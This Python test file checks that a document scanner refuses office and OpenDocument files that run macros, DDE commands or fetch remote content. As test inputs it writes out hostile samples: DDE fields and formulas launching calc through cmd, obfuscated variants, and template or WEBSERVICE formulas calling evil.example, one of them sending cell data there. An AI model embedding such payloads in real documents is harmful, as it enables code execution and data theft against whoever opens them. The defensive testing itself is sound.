"""What runs in a packed document, or is fetched by it, is found whatever its parts are called."""

import io
import zipfile
from collections.abc import Mapping

import pytest

from bureau.core.reasons import Refused
from bureau.documents.given import MEDIA_TYPES, read_given
from bureau.documents.running import PIECE, look_at_directory
from bureau.documents.unpacking import UNPACKED_MOST
from tests.documents.test_given import DOCX, leading, office, packed

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODT = MEDIA_TYPES["odt"].encode()


def typed(content_type: str, name: str = "[Content_Types].xml") -> bytes:
    """A DOCX in which some part is of that type."""
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    one = f'<c:Override PartName="/a" ContentType="{content_type}"/>'
    return with_parts({name: f'<c:Types xmlns:c="{space}">{one}</c:Types>'.encode()})


def with_parts(parts: Mapping[str, bytes]) -> bytes:
    return packed({"_rels/.rels": leading("officeDocument", "word/document.xml"), **parts})


def related(
    kind: str, target: str = "media/image1.png", name: str = "word/_rels/a.xml.rels"
) -> bytes:
    return with_parts({"word/document.xml": b"<a/>", name: leading(kind, target)})


def fields(*pieces: str) -> bytes:
    """A text with a field whose instruction is written in these pieces."""
    begins, ends = (f'<w:fldChar w:fldCharType="{each}"/>' for each in ("begin", "end"))
    told = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return marked(f"{begins}{told}{ends}")


def marked(words: str, encoding: str = "utf-8") -> bytes:
    return with_parts({"word/any.bin": f"<w:document {WORD}>{words}</w:document>".encode(encoding)})


def opened(content: str, name: str = "content.xml") -> bytes:
    spaces = 'xmlns:a="urn:a" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return packed({"mimetype": ODT, name: f"<a:d {spaces}>{content}</a:d>".encode()})


RUN = {
    "a macro under the name of a picture": with_parts({"word/media/image1.png": OLE}),
    "a program": with_parts({"docProps/thumbnail.jpeg": b"MZ\x90\0"}),
    "a type of a macro": typed("application/vnd.ms-office.vbaProject"),
    "a type in capitals": typed("APPLICATION/VND.MS-OFFICE.VBAPROJECT", "[content_types].XML"),
    "a type with macros": typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a binary workbook": typed("application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "an old macro sheet by its type": typed("application/vnd.ms-excel.macrosheet+xml"),
    "a control by its type": typed("application/vnd.ms-office.activeX+xml"),
    "an old macro sheet": with_parts(
        {"xl/worksheets/sheet1.xml": b'\xef\xbb\xbf<x:macrosheet xmlns:x="urn:a"/>'}
    ),
    "a name of an old macro": with_parts(
        {"xl/a.xml": b'<w><definedName name="A" xlm="&#49;"/></w>'}
    ),
    "a macro that is led to": related("vbaProject"),
    "a macro led to from a renamed part": related("VBAPROJECT", name="word/_RELS/a.xml.RELS"),
    "a control": related("control"),
    "an object": related("oleObject"),
    "a link to other data": related("externalLink"),
    "a link to a program": with_parts(
        {"xl/a.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}
    ),
    "a field of DDE": fields('DDEAUTO c:\\\\windows "/k calc"'),
    "a field in pieces": fields(" d", "DEauto", " x"),
    "a field in character references": fields("&#68;&#x44;E x"),
    "a field without pieces": marked('<w:fldSimple w:instr="DDE x y"/>'),
    "a field in UTF-16": marked('<w:fldSimple w:instr="DDE x y"/>', "utf-16"),
    "a field made by a field": marked(
        '<w:fldChar w:fldCharType="begin"/>' * 2 + "<w:instrText>QUOTE 68 68 69</w:instrText>"
    ),
    "a name finished by a field": marked(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE E </w:instrText>'
    ),
    "a name behind what nobody sees": fields("\u200bDDEAUTO c:"),
    "a page within that brings its own objects": related("aFChunk", "a.html"),
    "a program behind a picture": with_parts(
        {"a": b'<a:hlinkClick xmlns:a="urn:a" action="pp&#97;ction://program"/>'}
    ),
    "a macro in what is embedded": with_parts({"word/embeddings/a.xlsx": typed("a.vbaProject")}),
    "Basic of an open document": packed({"mimetype": ODT, "Basic/a.xml": b""}),
    "what listens": opened('<a:event-listener a:event-name="dom:load"/>'),
    "a script behind a link": opened('<a:a xlink:href="vnd.sun.star.script:a.py$b"/>'),
    "DDE of an open document": opened(
        '<a:dde-connection-decl a:application="soffice"/>', "Object 1/a"
    ),
}


@pytest.mark.parametrize("content", RUN.values(), ids=RUN)
def test_what_runs_is_found_by_its_content(content: bytes) -> None:
    with pytest.raises(Refused, match="file_has_macros"):
        look_at_directory(content)


@pytest.mark.parametrize(
    "kind", ["attachedTemplate", "frame", "subDocument", "aFChunk", "package", "image", "video"]
)
def test_what_is_fetched_on_opening_is_found_wherever_it_is_named(kind: str) -> None:
    outside = 'https://evil.example/t" TargetMode="External'
    with pytest.raises(Refused, match="file_fetches"):
        look_at_directory(related(kind, outside))


@pytest.mark.parametrize(
    "field",
    [
        r"INCLUDETEXT \\\\evil\\s\\x.docx",
        "INCLUDEPICTURE http://evil.example/x.png",
        "LINK Excel.Sheet.8 x",
        "IMPORT x",
        "DATABASE x",
        "RD x",
    ],
)
def test_a_field_that_fetches_is_found(field: str) -> None:
    with pytest.raises(Refused, match="file_fetches"):
        look_at_directory(fields(f" {field} "))


def with_formula(formula: str, element: str = "f") -> bytes:
    told = f"<w><{element}>{formula}</{element}></w>"
    return with_parts({"xl/worksheets/any": told.encode()})


def out_of(element: str, address: str) -> bytes:
    return opened(f'<a:{element} xlink:href="{address}"/>')


@pytest.mark.parametrize(
    "content",
    [
        with_formula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
        with_formula('_xlfn.IM&#65;GE("https://evil.example/x.png")'),
        with_formula("'https://evil.example/[x.xlsx]S'!A1"),
        with_formula('webservice("https://evil.example")', "definedName"),
        out_of("image", "https://evil.example/x.png"),
        out_of("image", "&#104;ttps://evil.example/x.png"),
        out_of("image", "//evil.example/share/x.png"),
        out_of("image", "file:///etc/passwd"),
        out_of("section-source", "https://evil.example/x.odt"),
        out_of("floating-frame", "https://evil.example/"),
        out_of("background-image", "https://evil.example/x.png"),
        out_of("font-face-uri", "https://evil.example/x.ttf"),
        out_of("form", "https://evil.example/"),
        out_of("template", "https://evil.example/t.ott"),
        out_of("auto-reload", "https://evil.example/"),
    ],
)
def test_a_formula_or_an_open_document_that_fetches_is_found(content: bytes) -> None:
    with pytest.raises(Refused, match="file_fetches"):
        look_at_directory(content)


@pytest.mark.parametrize("formula", ['RTD("evil.prog",,"x")', "cmd|'/c calc'!A0", 'CALL("k","W")'])
def test_a_formula_that_runs_is_found(formula: str) -> None:
    with pytest.raises(Refused, match="file_has_macros"):
        look_at_directory(with_formula(formula))


@pytest.mark.parametrize(
    "part",
    [
        b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-macrosheet/+AD4-</a>',
        '<?xml version="1.0" encoding="cp037"?><macrosheet/>'.encode("cp037"),
    ],
)
def test_an_encoding_that_hides_words_is_refused(part: bytes) -> None:
    with pytest.raises(Refused, match="file_damaged"):
        look_at_directory(with_parts({"xl/any": part}))


def test_a_document_deeper_in_others_than_any_is_refused() -> None:
    content = DOCX
    for _level in range(4):
        content = with_parts({"word/embeddings/a.docx": content})
    with pytest.raises(Refused, match="file_has_macros"):
        look_at_directory(content)


def test_a_name_that_is_there_twice_is_refused() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in ("word/document.xml", "word/Document.xml"):
            archive.writestr(name, b"<a/>")
    with pytest.raises(Refused, match="file_unsafe"):
        look_at_directory(written.getvalue())


HONEST = {
    "a text": DOCX,
    "a workbook": office("xl/workbook.xml"),
    "a link that is followed": related("hyperlink", 'https://example.org" TargetMode="External'),
    "usual fields": fields(" PAGE "),
    "a field within another": marked(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText> DATE </w:instrText>'
    ),
    "words about macros": marked("<w:t>DDEAUTO vbaProject macrosheet vnd.sun.star.script:</w:t>"),
    "a chart with its workbook": with_parts({"word/embeddings/a.xlsx": office("xl/workbook.xml")}),
    "formulas": with_formula('HYPERLINK("https://example.org","Call (us)")&amp;SUM(A1:B2)'),
    "a declared encoding": with_parts(
        {"xl/any": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a/>'}
    ),
    "a picture within": out_of("image", "Pictures/x.png"),
    "a picture in the text": out_of("image", "data:image/png;base64,AA"),
    "a template": out_of("template", "file:///C:/Templates/memo.ott"),
    "an open document": opened('<a:a xlink:href="https://example.org"/>'),
}


@pytest.mark.parametrize("content", HONEST.values(), ids=HONEST)
def test_what_is_honest_is_taken(content: bytes) -> None:
    assert look_at_directory(content)


def test_a_document_that_runs_is_refused_where_it_is_handed_in() -> None:
    with pytest.raises(Refused, match="file_has_macros"):
        read_given(RUN["a macro under the name of a picture"])


def test_what_lies_in_one_file_is_unpacked_up_to_one_measure() -> None:
    """Each archive alone is within the bound; together they are not."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("a.xml", b"<a>" + b" " * (UNPACKED_MOST // 2))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as packed:
        packed.writestr("xl/workbook.xml", "<workbook/>")
        packed.writestr("0", inner.getvalue())
    assert look_at_directory(outer.getvalue())
    with zipfile.ZipFile(outer, "a") as packed:
        packed.writestr("1", inner.getvalue())
    with pytest.raises(Refused, match="file_grows"):
        look_at_directory(outer.getvalue())


@pytest.mark.parametrize("before", [b"\0", b"GIF89a", b"x" * (PIECE - 2)])
def test_a_document_behind_other_bytes_in_a_part_is_refused(before: bytes) -> None:
    inner = typed("a.vbaProject")
    with pytest.raises(Refused, match="file_unsafe"):
        look_at_directory(with_parts({"word/embeddings/a.xlsx": before + inner}))
